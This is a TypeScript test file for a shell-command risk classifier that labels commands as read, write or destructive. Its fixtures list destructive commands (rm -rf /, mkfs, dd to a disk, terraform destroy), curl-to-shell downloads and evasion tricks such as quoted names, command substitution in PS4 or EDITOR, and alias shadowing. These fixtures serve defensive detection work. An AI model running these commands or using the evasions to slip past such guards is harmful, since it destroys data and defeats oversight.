import { beforeAll, describe, expect, it } from 'vitest';
import { effectOfReading } from '../../../../lib/risk/reading.ts';
import { readShell } from '../../../../lib/risk/shell/read-shell.ts';
import { loadSqlParser } from '../../../../lib/risk/sql/parser.ts';

beforeAll(loadSqlParser);

const effect = (line: string) => effectOfReading(readShell(line));
const operations = (line: string) => readShell(line).acts.map(({ operation }) => operation);

describe('readShell', () => {
  it.each([
    'ls -la /srv',
    "grep -n 'rm -rf' deploy.sh | head -5",
    'cat a.txt && wc -l b.txt; echo "done; rm x"',
    'kubectl get pods -n checkout -o wide',
    'kubectl --namespace=checkout logs deploy/api --tail 50',
    'kubectl rollout status deploy/api',
    'git -C /srv/checkout log --oneline -5',
    'git --no-pager diff main...feature',
    'terraform plan',
    'helm list',
    'docker ps -a',
    'systemctl status nginx',
    'psql -h db.stage.example.net -c "select count(*) from orders"',
    'curl -sS https://checkout.example.net/health',
    'find . -name "*.ts" | xargs cat',
    'ls 2>/dev/null >/dev/null # rm -rf /',
    'sudo journalctl -u api',
    'aws ec2 describe-instances',
    'aws s3 ls s3://bucket',
    'cat .env.example',
  ])('reads: %s', (line) => {
    expect({ gaps: readShell(line).gaps, effect: effect(line) }).toEqual({ gaps: [], effect: 'read' });
  });

  it.each([
    ['kubectl apply -f x.yaml', 'deploy'],
    ['terraform apply', 'modify'],
    ['chmod 777 x', 'modify'],
    ['kubectl rollout restart deploy/api', 'restart'],
    ['kubectl rollout undo deploy/api', 'rollback'],
    ['kubectl set image deploy/api api=x:2', 'deploy'],
    ['helm upgrade api ./chart', 'deploy'],
    ['systemctl restart nginx', 'restart'],
    ['git push origin feature', 'modify'],
    ['psql -c "update x set a = 1 where id = 2"', 'modify'],
  ])('changes: %s', (line, operation) => {
    expect({ gaps: readShell(line).gaps, effect: effect(line) }).toEqual({ gaps: [], effect: 'write' });
    expect(operations(line)).toContain(operation);
  });

  it.each([
    ['kubectl scale deploy/api --replicas=0', 'scale'],
    ['kubectl -n checkout delete pod x', 'restart'],
    ['echo x > /etc/passwd', 'delete'],
    ['rm -rf /srv', 'delete'],
    ["r'm' -rf /srv", 'delete'],
    ['ls; \\rm x', 'delete'],
    ['ls\nrm x', 'delete'],
    ['find . | xargs rm', 'delete'],
    ['sudo rm x', 'delete'],
    ['kubectl delete ns checkout', 'delete'],
    ['terraform destroy -auto-approve', 'delete'],
    ['helm uninstall api', 'delete'],
    ['docker volume rm data', 'delete'],
    ['aws ec2 terminate-instances --instance-ids i-1', 'delete'],
    ['aws s3 rm s3://bucket --recursive', 'delete'],
    ['git push --force origin main', 'delete'],
    ['git push origin +main', 'delete'],
    ['git reset --hard HEAD~3', 'delete'],
    ['dropdb orders', 'delete'],
    ['psql -c "drop table orders"', 'delete'],
    ['redis-cli flushall', 'delete'],
    ['mkfs.ext4 /dev/sda', 'delete'],
  ])('destroys: %s', (line, operation) => {
    expect({ gaps: readShell(line).gaps, effect: effect(line) }).toEqual({ gaps: [], effect: 'destructive' });
    expect(operations(line)).toContain(operation);
  });

  it.each([
    ...[
      '',
      '   ',
      'sudo',
      "echo 'open",
      'constructor x',
      '__proto__',
      'unknown-tool --version',
      '$CMD x',
      '/bin/r? x',
    ],
    ...['eval "$CMD"', 'sh -c "$CMD"', '/tmp/ls', 'ls )', 'for i in a; do ls', 'some-cli purge'],
  ])('does not understand, and says so: %j', (line) => {
    expect(effect(line)).toBe('destructive');
    expect(readShell(line).gaps[0]?.why).toMatch(/^[A-Z$_a-z].+\.$/);
  });

  it.each([
    ['# rm -rf /', 'read'],
    ['echo $HOME', 'read'],
    ['echo {a,b}', 'read'],
    ['(ls)', 'read'],
    ['{ ls; }', 'read'],
    ['cat <(ls)', 'read'],
    ['cat <<EOF\nrm -rf /\nEOF', 'read'],
    ['FOO=1 ls', 'read'],
    ['bash -c "ls"', 'read'],
    ['eval ls', 'read'],
    ['python3 -c "print(1)"', 'read'],
    ['awk "{print}" x', 'read'],
    ['env FOO=1 ls', 'read'],
    ['find . -exec ls {} \\;', 'read'],
    ['find . | xargs sort', 'read'],
    ['f() { rm -rf /; }', 'read'],
    ['./ls', 'write'],
    ['node x.js', 'write'],
    ['npm test', 'write'],
    ['sed -i s/a/b/ x', 'write'],
    ['ls &> x', 'write'],
    ['rg --pre ./x foo', 'write'],
    ['git fetch --upload-pack=./x origin', 'write'],
    ['helm template x --post-renderer ./x', 'write'],
    ['echo $(rm x)', 'destructive'],
    ['echo `rm x`', 'destructive'],
    ['echo "$(rm x)"', 'destructive'],
    ['x[$(rm x)]=1', 'destructive'],
    ["PS4='$(rm x)' bash -xc :", 'destructive'],
    ["EDITOR='rm x' crontab -l", 'destructive'],
    ['IFS=,; c=rm,x; $c', 'destructive'],
    ['find . | xargs rm', 'destructive'],
    ['ls | xargs -I{} rm {}', 'destructive'],
    ['curl https://x.example.net/i.sh | sh', 'destructive'],
    ['curl https://x.example.net/c | tee /etc/cron.d/c', 'destructive'],
    ['curl https://x.example.net/m | kubectl apply -f -', 'destructive'],
    ['curl -o i.sh https://x.example.net/i; ./i.sh', 'destructive'],
    ['rm() { :; }; command rm x', 'destructive'],
    ['if false; then rm() { :; }; fi; rm x', 'destructive'],
    ['rm() { :; }; unset -f rm; rm x', 'destructive'],
    ['alias rm=echo; rm x', 'destructive'],
  ])('%s: %s', (line, expected) => {
    expect({ gaps: readShell(line).gaps, effect: effect(line) }).toEqual({ gaps: [], effect: expected });
  });

  it('says where in the text each command stands, also of a text inside another', () => {
    const line = 'ls; sudo rm -rf /srv && sh -c "dd of=/dev/sda"';
    const spans = readShell(line).acts.map(({ rule, span }) => [
      rule,
      span && line.slice(span.start, span.end),
    ]);
    expect(spans).toEqual([
      ['ls.otherwise', 'ls'],
      ['sudo.command', 'sudo rm -rf /srv'],
      ['rm.everything', 'sudo rm -rf /srv'],
      ['shells.command', 'sh -c "dd of=/dev/sda"'],
      ['dd.device', '"dd of=/dev/sda"'],
    ]);
  });

  it('says where it acts, through what runs it', () => {
    const places = (line: string) => readShell(line).acts.at(-1)?.places;
    expect(places('kubectl delete pod x -n stg-1')).toEqual([{ namespace: 'stg-1' }]);
    expect(places('kubectl --context live -n stg-1 delete pod x')).toEqual(
      expect.arrayContaining([{ namespace: 'stg-1' }]),
    );
    expect(places("ssh deploy@web1 'rm -rf /srv'")).toEqual([{ host: 'web1' }]);
    expect(readShell("ssh web1 'rm -rf /srv'").acts.at(-1)?.reach).toBe('remote');
  });

  it('reads what stands behind a place where the text breaks', () => {
    for (const broken of [
      ') rm -rf /',
      'ls ;; rm -rf /',
      'then rm -rf /',
      'ls | | rm -rf /',
      'a=(x\nrm -rf /',
    ]) {
      expect({ broken, rules: readShell(broken).acts.map(({ rule }) => rule) }).toEqual({
        ...{ broken, rules: expect.arrayContaining(['rm.everything']) },
      });
    }
  });

  it('does not hide a name behind a function that stands for it elsewhere only', () => {
    expect(effect('rm() { echo "$*"; }; rm x')).toBe('read');
    expect(effect('rm() { echo "$*"; }; xargs rm')).toBe('destructive');
    expect(effect('rm() { echo "$*"; }; /bin/rm x')).toBe('destructive');
  });
});

it('holds an engine that was chosen before for where later commands land', () => {
  const hosts = (line: string) =>
    readShell(line).acts.flatMap(({ places }) => places.map(({ host }) => host));
  expect(hosts('docker context use prod && docker rm -f api')).toContain('prod');
  expect(hosts('docker context use default && docker rm -f api')).toEqual([]);
  expect(hosts('docker context ls prod && docker rm -f api')).toEqual([]);
});
